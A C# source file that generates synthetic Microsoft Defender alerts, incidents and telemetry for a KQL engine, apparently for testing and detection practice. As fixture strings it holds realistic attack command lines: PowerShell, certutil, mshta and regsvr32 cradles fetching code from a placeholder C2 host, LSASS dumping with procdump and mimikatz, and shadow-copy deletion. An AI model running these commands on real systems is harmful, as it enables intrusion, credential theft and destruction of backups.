using System;
using System.Collections.Generic;
using System.Globalization;
using System.Linq;
using System.Text;

namespace Defender365Typed.KqlEngine;

public sealed partial class SyntheticDataset
{
    /// <summary>The attack stories (with their mail URLs and clicks), their alerts, evidence and incidents (AlertInfo, AlertEvidence).</summary>
    private sealed partial class Builder
    {
        private readonly List<(SyntheticAlert Alert, string Title)> _alerts = [];

        private SyntheticAlert Alert(DateTime t, string title, string severity, string category, string serviceSource, string detectionSource,
            string graphService, string graphDetection, string techniques, string status = "new")
        {
            string id = "da" + (638_500_000_000_000_000L + (long)(t - DateTime.UnixEpoch).TotalSeconds).ToString(CultureInfo.InvariantCulture)
                + "_" + _random.Next(100_000_000, 999_999_999).ToString(CultureInfo.InvariantCulture);
            Dictionary<string, object?> r = Add("AlertInfo", t);
            r["AlertId"] = id;
            r["Title"] = title;
            r["Category"] = category;
            r["Severity"] = severity;
            r["ServiceSource"] = serviceSource;
            r["DetectionSource"] = detectionSource;
            r["AttackTechniques"] = techniques;
            var alert = new SyntheticAlert(id, title, severity.ToLowerInvariant(), status, category, graphService, graphDetection, t);
            _alerts.Add((alert, title));
            return alert;
        }

        private Dictionary<string, object?> Evidence(SyntheticAlert alert, string entityType, string role, Device? device = null, User? user = null)
        {
            Dictionary<string, object?> r = Add("AlertEvidence", alert.CreatedDateTime);
            r["AlertId"] = alert.Id;
            r["Title"] = alert.Title;
            r["Categories"] = "[\"" + alert.Category + "\"]";
            r["ServiceSource"] = _rows["AlertInfo"].First(a => (string)a["AlertId"]! == alert.Id)["ServiceSource"];
            r["DetectionSource"] = _rows["AlertInfo"].First(a => (string)a["AlertId"]! == alert.Id)["DetectionSource"];
            r["EntityType"] = entityType;
            r["EvidenceRole"] = role;
            r["EvidenceDirection"] = "";
            r["Severity"] = char.ToUpperInvariant(alert.Severity[0]) + alert.Severity[1..];
            r["AdditionalFields"] = "{}";
            if (device is not null)
            {
                r["DeviceId"] = device.Id;
                r["DeviceName"] = device.Name;
                r["LocalIP"] = device.Ip;
            }

            if (user is not null)
            {
                r["AccountName"] = user.Name;
                r["AccountDomain"] = user.Domain;
                r["AccountSid"] = user.Sid;
                r["AccountObjectId"] = user.ObjectId;
                r["AccountUpn"] = user.Upn;
            }

            return r;
        }

        private static void SetFile(Dictionary<string, object?> evidence, Dictionary<string, object?> source)
        {
            evidence["FileName"] = source["FileName"];
            evidence["FolderPath"] = source["FolderPath"];
            evidence["SHA1"] = source["SHA1"];
            evidence["SHA256"] = source["SHA256"];
            evidence["FileSize"] = source.GetValueOrDefault("FileSize");
            if (source.TryGetValue("ProcessCommandLine", out object? command))
            {
                evidence["ProcessCommandLine"] = command;
            }
        }

        private void Incident(long id, string title, string severity, string status, string classification, string determination, string? assignedTo,
            params SyntheticAlert[] alerts)
        {
            DateTime created = alerts.Min(a => a.CreatedDateTime);
            DateTime updated = alerts.Max(a => a.CreatedDateTime) + TimeSpan.FromMinutes(17);
            _incidents.Add(new SyntheticIncident(id, title, severity, status, classification, determination, assignedTo, created, updated, alerts));
        }

        private void AttackOnFinance()
        {
            Device ws = DeviceNamed("ws-finance-01");
            User alice = UserNamed("alice");
            DateTime start = now - TimeSpan.FromMinutes(80);

            // 1. Phishing mail with a URL, delivered to the inbox, clicked 12 minutes later.
            string phishUrl = "https://" + PhishDomain + "/reset?user=alice";
            var phishMails = new List<Dictionary<string, object?>>();
            foreach (User u in new[] { alice, UserNamed("bob"), UserNamed("carol") })
            {
                phishMails.Add(Mail(start - TimeSpan.FromMinutes(40), "it-support@" + PhishDomain, "IT Support", u, "Urgent: your password expires today",
                    "Phish", "Delivered", "Inbox/folder", 1, 0, "185.220.101.50", 0, "Inbound",
                    "{\"SPF\":\"fail\",\"DKIM\":\"none\",\"DMARC\":\"fail\",\"CompAuth\":\"fail\"}"));
            }

            foreach (Dictionary<string, object?> mail in phishMails)
            {
                Dictionary<string, object?> url = Add("EmailUrlInfo", (DateTime)mail["Timestamp"]!);
                url["NetworkMessageId"] = mail["NetworkMessageId"];
                url["Url"] = phishUrl;
                url["UrlDomain"] = PhishDomain;
                url["UrlLocation"] = "Body";
                url["ReportId"] = mail["ReportId"];
            }

            Dictionary<string, object?> click = Add("UrlClickEvents", start - TimeSpan.FromMinutes(28));
            click["Url"] = phishUrl;
            click["ActionType"] = "ClickAllowed";
            click["AccountUpn"] = alice.Upn;
            click["Workload"] = "Email";
            click["NetworkMessageId"] = phishMails[0]["NetworkMessageId"];
            click["ThreatTypes"] = "Phish";
            click["DetectionMethods"] = "";
            click["IPAddress"] = "203.0.113.10";
            click["IsClickedThrough"] = true;
            click["UrlChain"] = "[\"" + phishUrl + "\"]";
            click["ReportId"] = NewGuid().ToString("N");

            // A malware mail with a zip, blocked.
            Mail(start - TimeSpan.FromHours(20), "billing@fabrikam-invoices.net", "Billing", UserNamed("dave"), "Invoice 4471 overdue", "Malware",
                "Blocked", "Quarantine", 0, 1, "91.215.85.12");

            // 2. A downloaded viewer, executed 10 minutes later.
            Dictionary<string, object?> download = File(start - TimeSpan.FromMinutes(25), ws, alice, "FileCreated", "invoice_viewer.exe",
                @"C:\Users\alice\Downloads", 734_208, "msedge.exe", "http://" + C2Url + "/dl/invoice_viewer.exe");
            Dictionary<string, object?> viewer = Process(start - TimeSpan.FromMinutes(15), ws, alice, "invoice_viewer.exe", @"C:\Users\{user}\Downloads",
                "\"C:\\Users\\alice\\Downloads\\invoice_viewer.exe\"", "explorer.exe", company: "");
            viewer["SHA1"] = download["SHA1"];
            viewer["SHA256"] = download["SHA256"];

            // 3. Word spawning encoded PowerShell (three times), each calling out to the C2.
            string script = "IEX (New-Object Net.WebClient).DownloadString('http://" + C2Url + "/a.ps1')";
            string encoded = Convert.ToBase64String(Encoding.Unicode.GetBytes(script));
            var word = Process(start - TimeSpan.FromMinutes(5), ws, alice, "winword.exe", @"C:\Program Files\Microsoft Office\root\Office16",
                "\"WINWORD.EXE\" /n \"C:\\Users\\alice\\Downloads\\Invoice_4471.docm\"", "explorer.exe");
            long wordPid = (long)word["ProcessId"]!;
            string[] flags = ["-EncodedCommand", "-enc", "-ec"];
            for (int i = 0; i < 3; i++)
            {
                DateTime t = start + TimeSpan.FromMinutes(20 * i);
                var ps = Process(t, ws, alice, "powershell.exe", @"C:\Windows\System32\WindowsPowerShell\v1.0",
                    "powershell.exe -NoP -W Hidden " + flags[i] + " " + encoded, "winword.exe", "\"WINWORD.EXE\" /n Invoice_4471.docm", parentPid: wordPid);
                Connection(t + TimeSpan.FromSeconds(4), ws, C2Ip, i == 2 ? 4444 : 443, C2Url, "powershell.exe", (long)ps["ProcessId"]!, alice);
            }

            var cmd = Process(start + TimeSpan.FromMinutes(2), ws, alice, "cmd.exe", @"C:\Windows\System32", "cmd.exe /c \"C:\\Users\\Public\\p.bat\"", "winword.exe",
                parentPid: wordPid);
            _ = cmd;
            Process(start + TimeSpan.FromMinutes(3), ws, alice, "wscript.exe", @"C:\Windows\System32", "wscript.exe C:\\Users\\alice\\AppData\\Local\\Temp\\stage.vbs", "excel.exe");
            Process(start + TimeSpan.FromMinutes(4), ws, alice, "rundll32.exe", @"C:\Windows\System32", "\"C:\\Windows\\System32\\rundll32.exe\"", "winword.exe",
                parentPid: wordPid);
            var proxy = Process(start + TimeSpan.FromMinutes(6), ws, alice, "rundll32.exe", @"C:\Windows\System32",
                "rundll32.exe C:\\Users\\Public\\beacon.dll,Start", "cmd.exe");
            Connection(start + TimeSpan.FromMinutes(6.2), ws, "45.77.12.9", 8443, "cdn-sync.badcdn.net", "rundll32.exe", (long)proxy["ProcessId"]!, alice);

            // 4. Discovery.
            Process(start + TimeSpan.FromMinutes(30), ws, alice, "whoami.exe", @"C:\Windows\System32", "whoami.exe /all", "cmd.exe");
            Process(start + TimeSpan.FromMinutes(31), ws, alice, "net.exe", @"C:\Windows\System32", "net.exe group \"Domain Admins\" /domain", "cmd.exe");
            Process(start + TimeSpan.FromMinutes(32), ws, alice, "net.exe", @"C:\Windows\System32", "net.exe localgroup administrators", "cmd.exe");
            Process(start + TimeSpan.FromMinutes(33), ws, alice, "nltest.exe", @"C:\Windows\System32", "nltest.exe /domain_trusts /all_trusts", "cmd.exe");

            // 5. Download cradles.
            Process(start + TimeSpan.FromMinutes(35), ws, alice, "certutil.exe", @"C:\Windows\System32",
                "certutil.exe -urlcache -split -f http://" + C2Ip + "/payload.bin C:\\Users\\Public\\p.bin", "cmd.exe");
            Process(start + TimeSpan.FromMinutes(36), ws, alice, "bitsadmin.exe", @"C:\Windows\System32",
                "bitsadmin.exe /transfer job1 /download /priority high http://" + C2Ip + "/p2.bin C:\\Users\\Public\\p2.bin", "cmd.exe");
            Process(start + TimeSpan.FromMinutes(37), ws, alice, "mshta.exe", @"C:\Windows\System32", "mshta.exe http://" + C2Url + "/app.hta", "cmd.exe");
            Process(start + TimeSpan.FromMinutes(38), ws, alice, "regsvr32.exe", @"C:\Windows\System32",
                "regsvr32.exe /s /n /u /i:http://" + C2Url + "/file.sct scrobj.dll", "cmd.exe");

            // 6. Credential dumping, elevated, in the SYSTEM logon session.
            var procdump = Process(start + TimeSpan.FromMinutes(45), ws, alice, "procdump64.exe", @"C:\Users\{user}\AppData\Local\Temp",
                "procdump64.exe -accepteula -ma lsass.exe C:\\Users\\Public\\lsass.dmp", "cmd.exe", integrity: "High", logonId: 999, company: "Sysinternals");
            var mimi = Process(start + TimeSpan.FromMinutes(47), ws, alice, "mimi.exe", @"C:\Temp",
                "mimi.exe \"privilege::debug\" \"sekurlsa::logonpasswords\" exit", "cmd.exe", integrity: "High", company: "");
            Process(start + TimeSpan.FromMinutes(48), ws, alice, "powershell.exe", @"C:\Windows\System32\WindowsPowerShell\v1.0",
                "powershell.exe -ep bypass -c \"IEX (iwr http://" + C2Url + "/im.ps1); Invoke-Mimikatz -DumpCreds\"", "cmd.exe", integrity: "High");

            // 7. A very long obfuscated command line.
            string longCommand = "powershell.exe -NoP -c \"$s='" + string.Concat(Enumerable.Repeat("JABjAGwAaQBlAG4AdAAgAD0A", 48)) + "';iex $s\"";
            Process(start + TimeSpan.FromMinutes(50), ws, alice, "powershell.exe", @"C:\Windows\System32\WindowsPowerShell\v1.0", longCommand, "cmd.exe");

            // 8. Staging a large archive for exfiltration.
            File(start + TimeSpan.FromMinutes(55), ws, alice, "FileCreated", "finance_q3.7z", @"C:\Users\alice\AppData\Local\Temp", 3_221_225_472L, "7z.exe");

            // A script dropped in a dot-folder of the profile.
            File(start + TimeSpan.FromMinutes(60), ws, alice, "FileCreated", "svc.ps1", @"C:\Users\alice\.cache", 4_311, "powershell.exe");

            // Alerts and the incident.
            SyntheticAlert phishAlert = Alert(start - TimeSpan.FromMinutes(27), "Phishing email delivered and URL clicked", "Medium", "InitialAccess",
                "Microsoft Defender for Office 365", "MDO", "microsoftDefenderForOffice365", "microsoftDefenderForOffice365", "[\"Phishing (T1566)\"]");
            foreach (Dictionary<string, object?> mail in phishMails)
            {
                var e = Evidence(phishAlert, "MailMessage", "Impacted", user: _users.First(u => u.Upn == (string)mail["RecipientEmailAddress"]!));
                e["NetworkMessageId"] = mail["NetworkMessageId"];
                e["EmailSubject"] = mail["Subject"];
            }

            Evidence(phishAlert, "Url", "Related")["RemoteUrl"] = phishUrl;
            Evidence(phishAlert, "User", "Impacted", user: alice);

            SyntheticAlert downloadAlert = Alert(start - TimeSpan.FromMinutes(14), "Suspicious file downloaded and executed", "Low", "Execution",
                "Microsoft Defender for Endpoint", "EDR", "microsoftDefenderForEndpoint", "endpointDetectionAndResponse", "[\"User Execution (T1204)\"]");
            SetFile(Evidence(downloadAlert, "File", "Impacted", ws), download);
            Evidence(downloadAlert, "Machine", "Impacted", ws);

            SyntheticAlert psAlert = Alert(start + TimeSpan.FromMinutes(1), "Suspicious PowerShell command line", "High", "Execution",
                "Microsoft Defender for Endpoint", "EDR", "microsoftDefenderForEndpoint", "endpointDetectionAndResponse", "[\"PowerShell (T1059.001)\"]");
            Dictionary<string, object?> firstPs = _rows["DeviceProcessEvents"].First(p => ((string)p["ProcessCommandLine"]!).Contains("-EncodedCommand", StringComparison.Ordinal));
            SetFile(Evidence(psAlert, "Process", "Impacted", ws, alice), firstPs);
            Evidence(psAlert, "Machine", "Impacted", ws);
            Evidence(psAlert, "Ip", "Related")["RemoteIP"] = C2Ip;

            SyntheticAlert credAlert = Alert(start + TimeSpan.FromMinutes(46), "Credential dumping of LSASS memory", "High", "CredentialAccess",
                "Microsoft Defender for Endpoint", "EDR", "microsoftDefenderForEndpoint", "endpointDetectionAndResponse", "[\"LSASS Memory (T1003.001)\"]");
            SetFile(Evidence(credAlert, "Process", "Impacted", ws, alice), procdump);
            SetFile(Evidence(credAlert, "File", "Impacted", ws), mimi);
            Evidence(credAlert, "Machine", "Impacted", ws);

            Incident(5001, "Multi-stage incident involving Initial access & Credential access on one endpoint", "high", "active", "unknown", "unknown", null,
                phishAlert, downloadAlert, psAlert, credAlert);
        }

        private void RdpBruteForce()
        {
            Device web = DeviceNamed("srv-web-01");
            User admin = UserNamed("dave");
            DateTime hour = new(now.Ticks - (now.Ticks % TimeSpan.TicksPerHour) - (5 * TimeSpan.TicksPerHour), DateTimeKind.Utc);
            DateTime first = hour + TimeSpan.FromMinutes(10);
            string[] guesses = ["administrator", "admin", "dave", "backup", "test"];
            for (int i = 0; i < 32; i++)
            {
                User guess = new(guesses[i % guesses.Length], "CONTOSO", "", "", "", "");
                Logon(first + TimeSpan.FromSeconds(30 * i), web, guess, "LogonFailed", "RemoteInteractive", BruteIp, "Public", 50000 + i, "InvalidUserNameOrPassword");
            }

            Logon(first + TimeSpan.FromMinutes(17), web, admin, "LogonSuccess", "RemoteInteractive", BruteIp, "Public", 50100);
            Logon(first + TimeSpan.FromMinutes(18), web, admin, "LogonSuccess", "Network", BruteIp, "Public", 50101);

            SyntheticAlert alert = Alert(first + TimeSpan.FromMinutes(19), "Successful RDP logon after multiple failures", "Medium", "CredentialAccess",
                "Microsoft Defender for Endpoint", "EDR", "microsoftDefenderForEndpoint", "endpointDetectionAndResponse", "[\"Brute Force (T1110)\"]",
                "inProgress");
            Evidence(alert, "Machine", "Impacted", web);
            Evidence(alert, "Ip", "Related")["RemoteIP"] = BruteIp;
            Evidence(alert, "User", "Impacted", user: admin);
            Incident(5002, "RDP brute force against an internet-facing server", "medium", "inProgress", "truePositive", "multiStagedAttack", "secops@contoso.com", alert);
        }

        private void Ransomware()
        {
            Device files = DeviceNamed("srv-file-01");
            User backup = UserNamed("svc_backup");
            DateTime start = now - TimeSpan.FromMinutes(75);
            Process(start, files, backup, "vssadmin.exe", @"C:\Windows\System32", "vssadmin.exe delete shadows /all /quiet", "cmd.exe", integrity: "High");
            Process(start + TimeSpan.FromMinutes(1), files, backup, "wmic.exe", @"C:\Windows\System32\wbem", "wmic.exe shadowcopy delete /nointeractive", "cmd.exe", integrity: "High");
            Process(start + TimeSpan.FromMinutes(2), files, backup, "wbadmin.exe", @"C:\Windows\System32", "wbadmin.exe delete catalog -quiet", "cmd.exe", integrity: "High");
            var encryptor = Process(start + TimeSpan.FromMinutes(3), files, backup, "svch0st.exe", @"C:\ProgramData", "C:\\ProgramData\\svch0st.exe --encrypt \\\\srv-file-01\\share", "cmd.exe",
                integrity: "System", company: "");
            string[] docs = ["budget.xlsx", "payroll.xlsx", "contracts.docx", "plan.pptx", "customers.csv", "Q3 report.docx"];
            for (int i = 0; i < docs.Length * 3; i++)
            {
                string doc = (i / docs.Length).ToString(CultureInfo.InvariantCulture) + "_" + docs[i % docs.Length];
                File(start + TimeSpan.FromMinutes(4) + TimeSpan.FromSeconds(7 * i), files, backup, "FileRenamed", doc + ".locked", @"\\srv-file-01\share\finance",
                    4096L * (i + 3), "svch0st.exe", previousName: doc);
            }

            var note = File(start + TimeSpan.FromMinutes(9), files, backup, "FileCreated", "README_DECRYPT.txt", @"\\srv-file-01\share\finance", 2048, "svch0st.exe");
            File(start + TimeSpan.FromMinutes(9.5), files, backup, "FileCreated", "HOW_TO_RECOVER_FILES.html", @"C:\Users\Public\Desktop", 3072, "svch0st.exe");

            SyntheticAlert alert = Alert(start + TimeSpan.FromMinutes(10), "Ransomware behavior detected in the file system", "High", "Impact",
                "Microsoft Defender for Endpoint", "EDR", "microsoftDefenderForEndpoint", "endpointDetectionAndResponse", "[\"Data Encrypted for Impact (T1486)\"]");
            Evidence(alert, "Machine", "Impacted", files);
            SetFile(Evidence(alert, "Process", "Impacted", files, backup), encryptor);
            SetFile(Evidence(alert, "File", "Related", files), note);
            Evidence(alert, "User", "Impacted", user: backup);
            Incident(5003, "Ransomware activity on a file server", "high", "active", "unknown", "unknown", null, alert);
        }

        private void PasswordSpray()
        {
            Device dev = DeviceNamed("ws-dev-03");
            DateTime start = now - TimeSpan.FromHours(9);
            int n = 0;
            foreach (User u in _users)
            {
                for (int k = 0; k < 3; k++)
                {
                    IdentityLogon(start + TimeSpan.FromSeconds(20 * n++), u, "LogonFailed", k % 2 == 0 ? "Ntlm" : "Kerberos", dev.Ip, dev.Name,
                        k % 2 == 0 ? 445 : 88, "Wrong password");
                }
            }

            SyntheticAlert alert = Alert(start + TimeSpan.FromMinutes(9), "Password spray from one endpoint", "Medium", "CredentialAccess",
                "Microsoft Defender for Identity", "MDI", "microsoftDefenderForIdentity", "microsoftDefenderForIdentity", "[\"Password Spraying (T1110.003)\"]",
                "resolved");
            Evidence(alert, "Machine", "Related", dev);
            foreach (User u in _users.Take(3))
            {
                Evidence(alert, "User", "Impacted", user: u);
            }

            Incident(5004, "Password spray against multiple accounts", "medium", "resolved", "truePositive", "maliciousUserActivity", "soc-tier2@contoso.com", alert);
        }

        private void OlderAlerts()
        {
            Device sales = DeviceNamed("ws-sales-04");
            SyntheticAlert eicar = Alert(now - TimeSpan.FromDays(6), "EICAR test file detected", "Informational", "Malware",
                "Microsoft Defender for Endpoint", "Antivirus", "microsoftDefenderForEndpoint", "antivirus", "[]", "resolved");
            var e = Evidence(eicar, "File", "Impacted", sales);
            e["FileName"] = "eicar.com";
            e["SHA1"] = "3395856ce81f2b7382dee72602f798b642f14140";
            e["SHA256"] = "275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f";
            Evidence(eicar, "Machine", "Impacted", sales);
            Incident(4990, "EICAR test file on one endpoint", "informational", "resolved", "informationalExpectedActivity", "securityTesting", "secops@contoso.com", eicar);
        }
    }
}
